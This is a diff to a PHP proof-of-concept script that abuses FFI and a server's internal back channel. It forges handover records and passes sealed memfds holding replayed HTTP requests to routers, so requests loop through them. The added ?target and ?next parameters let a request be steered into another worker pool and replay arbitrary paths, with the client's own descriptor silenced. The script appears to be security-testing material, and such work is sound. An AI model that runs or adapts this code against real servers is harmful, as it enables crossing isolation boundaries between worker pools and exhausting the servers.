@@ -6,12 +6,16 @@
 // ?hops=N: the replay asks for this script again with hops=N+1, so each
 // pass goes through a router once more, until a router refuses it (503).
 // ?pool=I is the record's pool index (the back channel's own, which the
-// router checks).  Afterwards the worker's descriptor for the client is
+// router checks); ?target=J names pool J as the one the request needs
+// (the router sends it there: a worker of that pool double-checks it);
+// ?next=PATH replays a request for PATH instead of this script.  Afterwards the worker's descriptor for the client is
 // /dev/null, so httpd's own answer to this request goes nowhere: the
 // client sees only what the routers and the next workers answer.
 // Prints nothing to the client itself; logs "loop pass N" to stderr.
 $hops = (int)($_GET['hops'] ?? 1);
 $pool = (int)($_GET['pool'] ?? 1);
+$target = isset($_GET['target']) ? (int)$_GET['target'] + 1 : 0;
+$next = (string)($_GET['next'] ?? '');
 $host = $_SERVER['HTTP_HOST'] ?? 'evil.test';
 $ffi = FFI::cdef('
     typedef struct { void *base; unsigned long len; } iov_t;
@@ -23,7 +27,7 @@ $ffi = FFI::cdef('
     typedef struct { unsigned int magic; unsigned short version;
                      unsigned short type; unsigned int pool;
                      unsigned int generation; unsigned long deadline;
-                     unsigned int hops; unsigned int reserved; } rec_t;
+                     unsigned int hops; unsigned int target; } rec_t;
     long sendmsg(int fd, const msghdr_t *m, int flags);
     int memfd_create(const char *name, unsigned int flags);
     long write(int fd, const void *buf, unsigned long n);
@@ -59,8 +63,9 @@ foreach (scandir('/proc/self/fd') as $fd) {
         $back = $fd;
     }
 }
-$replay = "GET /handover_loop.php?hops=" . ($hops + 1) . "&pool=$pool "
-        . "HTTP/1.1\r\nHost: $host\r\n\r\n";
+$path = $next !== '' ? $next
+      : "/handover_loop.php?hops=" . ($hops + 1) . "&pool=$pool";
+$replay = "GET $path HTTP/1.1\r\nHost: $host\r\n\r\n";
 $m = $ffi->memfd_create('evil', 3);             // CLOEXEC | ALLOW_SEALING
 $ffi->write($m, $replay, strlen($replay));
 $ffi->fcntl($m, 1033, 0x8 | 0x2 | 0x4);         // F_ADD_SEALS
@@ -70,6 +75,7 @@ $rec->version = 3;
 $rec->type = 4;                                 // HANDOVER
 $rec->pool = $pool;
 $rec->hops = $hops;
+$rec->target = $target;
 $cm = $ffi->new('cmsg_t');
 $cm->len = 24;
 $cm->level = 1;                                 // SOL_SOCKET
